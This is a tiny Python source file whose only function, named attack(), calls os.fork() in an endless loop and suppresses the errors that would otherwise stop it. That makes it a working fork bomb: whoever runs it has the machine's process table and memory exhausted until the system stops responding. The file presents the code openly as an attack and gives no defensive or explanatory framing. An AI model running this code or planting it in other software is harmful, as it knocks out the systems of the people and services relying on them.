"""Start processes without end."""

import contextlib
import os


def attack():
    while True:
        with contextlib.suppress(OSError):
            os.fork()
